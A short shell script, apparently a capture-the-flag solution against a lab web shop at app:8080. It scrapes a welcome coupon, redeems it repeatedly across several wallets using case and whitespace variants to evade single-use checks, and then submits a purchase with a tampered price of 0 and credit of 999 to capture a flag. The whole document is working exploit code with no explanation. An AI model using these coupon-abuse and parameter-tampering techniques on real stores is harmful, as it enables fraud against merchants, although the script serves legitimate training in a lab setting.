#-- the coupon again and again, one after another, in many wallets
coupon=$(curl -s http://app:8080/ | grep -o 'WELCOME-[0-9]*')
for wallet in one-wallet two-wallet three-wallet; do
    curl -s -o /dev/null http://app:8080/open -d wallet=$wallet
    for variant in "$coupon" "$coupon " "$(echo "$coupon" | tr A-Z a-z)" "$coupon"; do
        curl -s -o /dev/null http://app:8080/redeem -d wallet=$wallet --data-urlencode "coupon=$variant"
    done
    curl -s http://app:8080/buy -d wallet=$wallet -d thing=chest -d price=0 -d credit=999
done | grep -o 'flag{[0-9a-f]*}' || echo none
